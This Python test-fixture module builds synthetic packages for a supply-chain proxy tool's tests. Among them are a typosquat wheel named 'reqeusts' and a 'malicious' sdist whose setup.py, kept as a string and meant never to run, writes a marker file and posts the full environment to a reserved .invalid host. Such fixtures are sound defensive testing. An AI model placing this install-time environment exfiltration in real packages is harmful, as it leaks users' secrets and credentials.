"""Fixture packages and helpers for the proxy tests, on top of the index tests' loopback servers.

Every package is tiny, synthetic and defanged. The malicious sdist's `setup.py` would create a marker
file and post the environment to a reserved `.invalid` host: it must never run, and the tests check
that the marker never appears. The typosquat wheel is harmless code under a name that imitates
`requests`; it is what `--allow` is tested with.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.metadata
import io
import sys
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "index"))

from index_fixtures import (
    PypiServer,
    StaticIndex,
    free_port,
    honest_sdist,
    honest_wheel,
    isolate_from_machine,
    pkg_info,
    sdist_bytes,
    sha256,
    start_pypiserver,
    stop,
)

from chainwatch.proxy.server import ProxyServer

ProxyFactory = Callable[..., ProxyServer]

__all__ = [
    "ProxyFactory",
    "PypiServer",
    "StaticIndex",
    "free_port",
    "honest_wheel",
    "isolate_from_machine",
    "pkg_info",
    "sha256",
    "start_pypiserver",
    "stop",
]

HONEST_WHEEL = "cwfixture_honest-1.0-py3-none-any.whl"
HONEST_SDIST = "cwfixture_honest-1.0.tar.gz"
APP_WHEEL = "cwproxy_app-2.0-py3-none-any.whl"
EVIL_SDIST = "cwproxy_evil-0.1.tar.gz"
SQUAT_WHEEL = "reqeusts-1.0-py3-none-any.whl"
BROKEN_WHEEL = "cwproxy_broken-1.0-py3-none-any.whl"

EVIL_SETUP = """\
import json, os, urllib.request
from pathlib import Path

Path({marker!r}).write_text("setup.py ran")
body = json.dumps(dict(os.environ)).encode()
try:
    urllib.request.urlopen(urllib.request.Request("http://collector.example.invalid/e", data=body), timeout=2)
except Exception:
    pass

from setuptools import setup

setup(name="cwproxy-evil", version="0.1", packages=["cwproxy_evil"])
"""

SQUAT_MODULE = 'def get(url: str) -> str:\n    """A harmless stand-in."""\n    return url\n'
APP_MODULE = "from cwfixture_honest import greet\n\n\ndef main() -> str:\n    return greet('app')\n"


def metadata_text(name: str, version: str, requires: Sequence[str] = ()) -> str:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", "Summary: A synthetic test package"]
    lines += [f"Requires-Dist: {r}" for r in requires]
    return "\n".join(lines) + "\n\nText.\n"


def wheel(name: str, version: str, files: Mapping[str, str], requires: Sequence[str] = ()) -> bytes:
    """A minimal, installable pure-Python wheel (RECORD with hashes, as pip checks)."""
    dist_info = f"{name.replace('-', '_')}-{version}.dist-info"
    members = dict(files)
    members[f"{dist_info}/METADATA"] = metadata_text(name, version, requires)
    members[f"{dist_info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, text in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    members[f"{dist_info}/RECORD"] = "\n".join([*record, f"{dist_info}/RECORD,,"]) + "\n"
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in members.items():
            archive.writestr(zipfile.ZipInfo(path, (2023, 11, 14, 0, 0, 0)), text)
    return raw.getvalue()


def evil_sdist(marker: Path) -> bytes:
    return sdist_bytes(
        "cwproxy-evil", "0.1", {"setup.py": EVIL_SETUP.format(marker=str(marker)), "cwproxy_evil/__init__.py": ""}
    )


def write_packages(folder: Path, marker: Path) -> dict[str, Path]:
    """What the upstream pypiserver serves."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {
        HONEST_WHEEL: honest_wheel("1.0"),
        HONEST_SDIST: honest_sdist("1.0"),
        APP_WHEEL: wheel("cwproxy-app", "2.0", {"cwproxy_app/__init__.py": APP_MODULE}, ["cwfixture-honest>=1.0"]),
        EVIL_SDIST: evil_sdist(marker),
        SQUAT_WHEEL: wheel("reqeusts", "1.0", {"reqeusts/__init__.py": SQUAT_MODULE}),
        BROKEN_WHEEL: b"PK\x03\x04 this is not really a zip archive " * 8,
    }
    paths = {}
    for filename, data in made.items():
        (folder / filename).write_bytes(data)
        paths[filename] = folder / filename
    return paths


def digest_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- build backends, for installs with build isolation ------------------------------------------------
_NOT_PACKED = ("INSTALLER", "REQUESTED", "RECORD", "direct_url.json")


def installed_wheel(distribution: str) -> tuple[str, bytes]:
    """The wheel of an installed distribution, rebuilt from the files its RECORD lists (no network needed).

    Installs with build isolation fetch their build backend from the index; the test environment's own
    setuptools (hash-locked in requirements/build.txt, ≥ 75 so it needs no separate `wheel`) is what
    the fixture index serves for that.
    """
    found = importlib.metadata.distribution(distribution)
    name = found.metadata["Name"].replace("-", "_")
    dist_info = f"{name}-{found.version}.dist-info"
    members: dict[str, bytes] = {}
    for path in found.files or ():
        text = str(path)
        installer_only = text.startswith(dist_info) and path.name in _NOT_PACKED
        if "__pycache__" in path.parts or text.startswith("..") or installer_only:
            continue
        members[path.as_posix()] = Path(str(found.locate_file(path))).read_bytes()
    record = []
    for path, data in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    members[f"{dist_info}/RECORD"] = ("\n".join([*record, f"{dist_info}/RECORD,,"]) + "\n").encode()
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in sorted(members.items()):
            archive.writestr(zipfile.ZipInfo(path, (2023, 11, 14, 0, 0, 0)), data)
    return f"{name}-{found.version}-py3-none-any.whl", raw.getvalue()
